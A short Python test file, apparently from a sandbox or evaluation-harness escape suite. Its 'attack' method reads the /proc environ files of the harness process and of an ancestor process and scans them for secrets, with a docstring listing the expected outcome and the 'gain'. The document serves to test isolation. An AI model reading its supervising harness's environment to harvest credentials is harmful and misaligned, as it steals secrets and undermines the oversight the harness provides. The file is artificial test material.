"""T60 T03. Reads the environment of the harness, and of all that it can see.

expected: wrong
gains: process label-read
"""
from pathlib import Path
from kit import TO, Empty, ancestor, attempt, secrets_in
class Solution(Empty):
    def attack(self):
        attempt(lambda: secrets_in(Path(f"/proc/{TO['harness']}/environ").read_bytes()),
                lambda: secrets_in(Path(f"/proc/{ancestor()}/environ").read_bytes()))
